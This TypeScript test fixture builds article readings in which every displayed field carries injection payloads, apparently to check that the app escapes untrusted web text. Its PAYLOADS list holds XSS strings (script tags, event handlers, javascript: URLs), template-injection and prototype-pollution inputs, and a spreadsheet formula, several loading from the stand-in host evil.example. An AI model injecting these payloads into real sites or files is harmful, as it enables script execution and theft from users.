import { type Claim } from '../../src/domain/claim.ts';
import { type ArticleReading } from '../../src/domain/reading.ts';
import { sha256, stableId } from '../../src/lib/stable-id.ts';
import { aReading } from './generated-readings.ts';

/** What a page of the web can put into titles, names and texts in the hope that some page shows it as its own. */
const PAYLOADS = [
  '<script>window.hacked = true</script>',
  '<img src=x onerror="window.hacked = true">',
  '<svg onload="window.hacked = true">',
  '"><script src="https://evil.example/x.js"></script>',
  "' onmouseover='window.hacked = true",
  '" onfocus="window.hacked = true" autofocus="',
  '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
  '<a href="javascript:window.hacked = true">read on</a>',
  'javascript:window.hacked = true',
  '</title><script>window.hacked = true</script>',
  '</textarea><script>window.hacked = true</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>Go on</button></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<math><mi xlink:href="data:x,<script>window.hacked = true</script>">',
  '{{constructor.constructor("window.hacked = true")()}}',
  '${window.hacked = true}',
  '<!--<script>window.hacked = true</script>-->',
  '\u202e<script>window.hacked = true</script>',
  '<x style="background:url(https://evil.example/x.png)">',
  '__proto__',
  '=HYPERLINK("https://evil.example/")',
] as const;

/** So many articles carry one of each. */
export const KINDS_OF_HARM = PAYLOADS.length;

/** Readings of so many articles in which every word that a page could show carries such words. */
export function hostileReadings(
  count: number,
  payloads: readonly string[] = PAYLOADS,
): readonly ArticleReading[] {
  return Array.from({ length: count }, (_, at) => {
    const payload = payloads[at % payloads.length] ?? '';
    return hostile(aReading(at, { key: `${payload} ${at}` }), payload);
  });
}

function hostile(generated: ArticleReading, payload: string): ArticleReading {
  const reading = withText(generated, `${generated.article.text}\n${payload}`);
  const { article, entities, unnamedSources, claims, assertions, citations } = reading;
  return {
    ...reading,
    article: {
      ...article,
      title: `${payload} ${article.key}`,
      byline: payload,
      url: 'javascript:window.hacked = true',
    },
    entities: entities.map((entity) => ({ ...entity, name: `${payload} ${entity.name}` })),
    unnamedSources: unnamedSources.map((source) => ({
      ...source,
      words: `${payload} ${source.words}`,
    })),
    claims: claims.map((claim) => hostileClaim(claim, payload)),
    assertions: assertions.map((assertion) => ({
      ...assertion,
      hedges: [payload],
      quantityText: payload,
      timeText: payload,
      spans: [{ ...assertion.spans[0], prefix: payload, suffix: payload }],
      chain: assertion.chain.map((link) => ({ ...link, cue: payload })),
    })),
    citations: citations.map((citation) => ({
      ...citation,
      urls: ['javascript:window.hacked = true'],
      spans: citation.spans.map((span) => ({ ...span, exact: payload })),
    })),
  };
}

function hostileClaim(claim: Claim, payload: string): Claim {
  return {
    ...claim,
    statement: `${payload} ${claim.statement}`,
    scope: payload,
    quantity: claim.quantity && {
      ...claim.quantity,
      unit: payload,
      counts: payload,
      scope: payload,
    },
  };
}

/** A reading of another text, by whose hash it and its version are known. */
function withText(reading: ArticleReading, text: string): ArticleReading {
  const { id, textHash, versionId } = reading.article;
  const hash = sha256(text);
  const known = JSON.stringify(reading)
    .replaceAll(versionId, stableId('version', id, hash))
    .replaceAll(textHash, hash);
  const renamed = JSON.parse(known) as ArticleReading;
  return { ...renamed, article: { ...renamed.article, text } };
}
